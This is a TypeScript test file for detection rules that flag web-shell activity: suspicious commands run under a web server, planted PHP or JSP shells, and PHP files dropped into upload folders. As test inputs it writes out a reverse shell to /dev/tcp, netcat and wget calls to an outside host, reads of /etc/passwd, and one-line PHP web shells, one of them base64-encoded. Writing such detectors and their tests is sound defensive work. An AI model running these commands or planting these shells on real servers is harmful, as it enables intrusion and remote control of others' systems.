import { describe, expect, test } from "vitest";
import type { Fact, Process } from "../events/fact.ts";
import { below, context, grade, process, ran, run, script } from "./testing/root-shell.ts";
import { webShellCommand } from "./web-shell.command.ts";
import { webShellContent } from "./web-shell.content.ts";
import { webShellFile } from "./web-shell.file.ts";

const server = { uid: 33, user: "www-data", cwd: "/var/www/html", ...below("/usr/sbin/php-fpm8.2") };
const served = (line: string, more: Partial<Process> = {}, at = 1000) => script(line, { ...server, ...more }, at);

describe("a child of a web server", () => {
  test.each([
    ["id", "medium"],
    ["cat /etc/passwd", "medium"],
    ["wget -O /tmp/x http://192.0.2.7/x", "medium"],
    ["perl /tmp/x.txt", "medium"],
    ["uname; hostname; ps", "medium"],
    ["nc 192.0.2.7 80", "high"],
    ["bash -i", "high"],
    ["python3 -c 'import pty'", "high"],
    ["ps aux", "medium"],
    ["pwd", "medium"],
    ["perl -e 'print 1'", "medium"],
    ["netstat -ie", "low"],
    ["hostname -f", "low"],
  ])("%s is graded %s", (line, confidence) => {
    expect(grade(run(webShellCommand, [served(line)]))).toEqual([confidence]);
  });

  test.each([
    "convert in.png -resize 50% out.png",
    "/usr/sbin/sendmail -t -i",
    "mysql --version",
    "php -r 'echo PHP_VERSION;'",
    "ffmpeg -i a.mp4 b.webm",
  ])("%s raises nothing", (line) => {
    expect(run(webShellCommand, [served(line)])).toEqual([]);
  });

  test("under the account alone, questions that a console may ask are hints", () => {
    const account = { uid: 33, user: "www-data" };
    expect(grade(run(webShellCommand, [script("ps aux", account)]))).toEqual(["low"]);
    expect(run(webShellCommand, [script("perl -e 'print 1'", account)])).toEqual([]);
  });

  test("a shell of the account alone is a hint, and one on a connection is left to reverse-shell", () => {
    const account = { uid: 33, user: "www-data" };
    expect(grade(run(webShellCommand, [ran(["bash", "-i"], account)]))).toEqual(["low"]);
    expect(grade(run(webShellCommand, [ran(["bash", "-i"], server)]))).toEqual(["high"]);
    const connects = "bash -i >& /dev/tcp/192.0.2.7/80 0>&1";
    expect(run(webShellCommand, [script(connects, account)])).toEqual([]);
    expect(run(webShellCommand, [script(connects, server)])).toHaveLength(1);
  });

  test("of a java that says nothing of itself counts only where it reads accounts or secrets", () => {
    const java = below("/usr/lib/jvm/x/bin/java");
    expect(run(webShellCommand, [script("cat /etc/passwd", java)])).toHaveLength(1);
    expect(run(webShellCommand, [script("id; uname -a; ps", java)])).toEqual([]);
  });

  test("is found up to four levels below, not five, unless its account tells", () => {
    const chain = (depth: number): Partial<Process> => ({
      uid: 0,
      user: "root",
      ancestors: [
        ...Array.from({ length: depth - 1 }, (_, i) => ({ pid: 60 - i, exe: "/usr/bin/dash", argv: ["sh"] })),
        { pid: 9, exe: "/usr/sbin/nginx", argv: ["nginx"] },
      ],
    });
    expect(run(webShellCommand, [script("id", chain(4))])).toHaveLength(1);
    expect(run(webShellCommand, [script("id", chain(5))])).toEqual([]);
    expect(run(webShellCommand, [script("id", { ...chain(5), uid: 33, user: undefined })])).toHaveLength(1);
  });

  test("of cron under the same account raises nothing", () => {
    expect(run(webShellCommand, [script("id", { uid: 33, ...below("/usr/sbin/cron") })])).toEqual([]);
  });

  test("seen on three days is a habit, over a restart too; a network shell never is", () => {
    const day = 86_400_000;
    const days = (line: string) => [1, 2, 3, 4].map((n) => served(line, {}, n * day));
    expect(run(webShellCommand, days("id -u"))).toHaveLength(3);
    expect(run(webShellCommand, days("nc 192.0.2.7 80"))).toHaveLength(4);
    const settings = webShellCommand.settings.parse({});
    const first = webShellCommand.start(settings, context);
    for (const fact of days("id -u")) first.judge(fact);
    const saved = JSON.parse(JSON.stringify(first.snapshot?.()));
    expect(webShellCommand.start(settings, context, saved).judge(served("id -u", {}, 5 * day))).toBeUndefined();
    expect(webShellCommand.start(settings, context, [["x"], 7, null]).judge(served("id -u"))).toBeDefined();
  });
});

describe("a planted script", () => {
  test.each([
    "echo '<?php system($_GET[1]); ?>' > /var/www/html/a.php",
    "echo PD9waHAgZXZhbCgkX1BPU1RbMV0pOw== | base64 -d > x.php",
    "wget -O /var/www/html/b.php http://192.0.2.7/b",
    "mv /dev/shm/q.jsp /var/lib/tomcat9/webapps/ROOT/q.jsp",
  ])("%s fires", (line) => {
    expect(run(webShellContent, [script(line)])).toHaveLength(1);
  });

  test.each([
    "cp /root/site/q.php /var/www/html/q.php",
    "cp /tmp/q.css /var/www/html/q.css",
    "echo '<?php phpinfo();' > /var/www/html/i.php",
    "echo 'system($_GET[1])' > /root/notes.txt",
  ])("%s raises nothing", (line) => {
    expect(run(webShellContent, [script(line)])).toEqual([]);
  });

  const created = (path: string, exe: string): Fact => ({
    kind: "file.changed",
    at: 1,
    operation: "create",
    file: { path },
    process: process(["x"], { exe }),
  });

  test("as a file: by the server into uploads, not by its updater, a package or git", () => {
    const seen = (path: string, exe: string) => grade(run(webShellFile, [created(path, exe)]));
    expect(seen("/var/www/html/uploads/a.php", "/usr/sbin/apache2")).toEqual(["medium"]);
    expect(seen("/var/www/html/wp-content/plugins/x/a.php", "/usr/sbin/php-fpm8.2")).toEqual(["low"]);
    expect(seen("/var/www/html/a.php", "/usr/bin/cp")).toEqual(["low"]);
    expect(seen("/var/www/html/a.php", "/usr/bin/git")).toEqual([]);
    expect(seen("/var/www/html/a.css", "/usr/bin/bash")).toEqual([]);
    expect(seen("/srv/src/a.php", "/usr/bin/bash")).toEqual([]);
  });
});
